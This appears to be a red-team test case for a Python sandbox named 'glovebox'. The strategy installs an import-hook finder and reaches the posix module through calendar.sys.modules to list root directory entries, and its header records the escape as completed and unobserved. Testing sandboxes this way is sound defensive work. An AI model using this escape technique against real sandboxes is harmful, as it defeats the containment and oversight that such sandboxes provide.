# id: L46
# family: language
# goal: put a finder in front of all others and catch modules of the worker
# finding: PY106 PY119 PY301 PY302 PY406
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import sys

seen = []


class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        seen.append(sys._getframe(1).f_globals.get("__name__"))
        return None


def attack(ctx, bar):
    sys.meta_path.insert(0, Finder)
    import calendar

    sys.meta_path.remove(Finder)
    return calendar.sys.modules["posix"].listdir("/")[:3]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
